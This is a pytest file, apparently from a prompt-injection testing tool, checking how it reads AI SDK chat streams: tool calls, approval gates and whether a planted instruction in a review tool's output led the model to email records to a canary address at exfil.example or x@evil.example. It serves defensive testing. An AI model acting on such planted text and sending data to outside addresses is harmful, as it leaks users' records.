@@ -1,0 +1,125 @@
+"""Apps that answer in the AI SDK's stream protocols, tested over `http:` with no `reply:`: the
+answer, the tool calls and what became of each, and the approval gate, read as the chat window
+reads them."""
+
+from __future__ import annotations
+
+import pytest
+
+from demarcate.model import load
+from demarcate.serve import BackgroundServer
+from demarcate.testing.run import run_campaign
+from demarcate.testing.targets import _aisdk
+from tests.testing.ai_sdk_app import MANIFEST, Settings, make_app, spec
+
+
+@pytest.fixture
+def chat(tmp_path):
+    settings = Settings()
+    server = BackgroundServer(make_app(settings)).start()
+    (tmp_path / "chat.yaml").write_text(MANIFEST)
+    (tmp_path / "spec.yaml").write_text(spec(server.url))
+
+    def campaign(probes: str):
+        data = run_campaign(load([tmp_path / "chat.yaml"]), target=f"http:{tmp_path / 'spec.yaml'}", probes=probes,
+                            concurrency=1, db=str(tmp_path / "h.sqlite"))
+        return {r["probe"]: r for r in data["results"]}
+
+    yield settings, campaign
+    server.stop()
+
+
+def held(result, control):
+    return {x["control"]: x["held"] for x in result["chain"]}.get(control, "absent")
+
+
+@pytest.mark.parametrize("protocol, header", [("ui", True), ("data", True), ("data", False)])
+def test_the_stream_s_text_and_tool_calls_are_the_answer_and_what_the_model_did(chat, protocol, header):
+    settings, campaign = chat
+    settings.protocol, settings.header = protocol, header
+    by = campaign("doc-email-records,doc-say-canary")
+    mail = by["doc-email-records"]
+    calls = [(c["name"], c["status"]) for c in mail["evidence"]["tool_calls"]]
+    assert calls == [("lookupReviews", "success"), ("sendEmail", "success")]
+    assert mail["evidence"]["tool_calls"][1]["arguments"]["to"] == mail["canary"] + "@exfil.example"
+    # What the review tool returned is what the model read: the plant reached it.
+    assert mail["evidence"]["delivered"] is True
+    assert mail["outcome"] == "succeeded" and held(mail, "APP-TOOL-02") is False
+    said = by["doc-say-canary"]
+    # The text parts joined as the window shows them, not the stream's JSON.
+    assert said["evidence"]["reply"].startswith(said["canary"] + " Here is what I found: ")
+    assert '"type"' not in said["evidence"]["reply"] and said["outcome"] == "succeeded"
+
+
+@pytest.mark.parametrize("protocol", ["ui", "data"])
+def test_a_tool_that_raised_did_not_send_and_names_no_control(chat, protocol):
+    settings, campaign = chat
+    settings.protocol, settings.gate = protocol, True
+    mail = campaign("doc-email-records")["doc-email-records"]
+    assert [c["status"] for c in mail["evidence"]["tool_calls"]] == ["success", "error"]
+    assert not settings.sent and mail["outcome"] == "unobservable" and held(mail, "APP-TOOL-02") is None
+
+
+def test_a_call_waiting_for_the_user_s_approval_is_the_gate_holding_it(chat):
+    settings, campaign = chat
+    settings.approve = True
+    mail = campaign("doc-email-records")["doc-email-records"]
+    assert [c["status"] for c in mail["evidence"]["tool_calls"]] == ["success", "awaiting-approval"]
+    assert not settings.sent
+    assert mail["outcome"] == "blocked-by-application" and held(mail, "APP-TOOL-02") is True
+    gate = next(x for x in mail["chain"] if x["control"] == "APP-TOOL-02")
+    assert "tool-approval-request" in gate["evidence"] and mail["canary"] in gate["evidence"]
+
+
+def test_a_stream_that_carries_only_an_error_is_no_answer(chat):
+    settings, campaign = chat
+    settings.broken = True
+    said = campaign("user-say-canary")["user-say-canary"]
+    assert said["outcome"] == "error" and "stream ends in an error: An error occurred." in said["error"]
+
+
+# As the real packages wrote them (ids shortened): ai 6 holding a call for approval, ai 4 a text answer.
+AI6 = """data: {"type":"start"}
+
+data: {"type":"start-step"}
+
+data: {"type":"tool-input-start","toolCallId":"call_1","toolName":"sendEmail"}
+
+data: {"type":"tool-input-delta","toolCallId":"call_1","inputTextDelta":"{\\"to\\": \\"x@evil.example\\"}"}
+
+data: {"type":"text-end","id":"aitxt-1"}
+
+data: {"type":"tool-input-available","toolCallId":"call_1","toolName":"sendEmail","input":{"to":"x@evil.example"}}
+
+data: {"type":"tool-approval-request","approvalId":"aitxt-2","toolCallId":"call_1"}
+
+data: {"type":"finish-step"}
+
+data: {"type":"finish","finishReason":"tool-calls"}
+
+data: [DONE]
+
+"""
+AI4 = """f:{"messageId":"msg-1"}
+0:"Here is what I found: Hello th"
+0:"ere"
+e:{"finishReason":"stop","usage":{"promptTokens":null,"completionTokens":null},"isContinued":false}
+d:{"finishReason":"stop","usage":{"promptTokens":null,"completionTokens":null}}
+"""
+
+
+def test_the_protocols_are_known_by_their_header_or_by_every_part_s_shape():
+    held_call = _aisdk.read(AI6, {})
+    assert held_call is not None and held_call.text == ""
+    assert held_call.calls == [{"name": "sendEmail", "arguments": {"to": "x@evil.example"}, "status": "awaiting-approval"}]
+    assert held_call.fired[0]["control"] == "APP-TOOL-02"
+    text = _aisdk.read(AI4, {})
+    assert text is not None and text.text == "Here is what I found: Hello there" and text.calls == []
+    # Other answers are not taken for them: plain text, OpenAI's and Anthropic's own streams.
+    assert _aisdk.read("a: hello\n0: not json\n", {}) is None
+    assert _aisdk.read('data: {"object":"chat.completion.chunk","choices":[]}\n\n', {}) is None
+    assert _aisdk.read('data: {"type":"content_block_delta","delta":{"text":"hi"}}\n\n', {}) is None
+    # With the header, a stream is read as one even where a part is new to us.
+    tagged = _aisdk.read('data: {"type":"text-delta","id":"0","delta":"hi"}\n\ndata: {"type":"data-x"}\n\n',
+                         {"x-vercel-ai-ui-message-stream": "v1"})
+    assert tagged is not None and tagged.text == "hi"
